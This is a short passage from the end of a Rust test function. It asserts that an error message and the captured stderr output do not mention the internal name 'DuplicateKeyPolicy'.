        "{msg}"
    );
    assert!(!msg.contains("DuplicateKeyPolicy") && !r.stderr.contains("DuplicateKeyPolicy"));
}
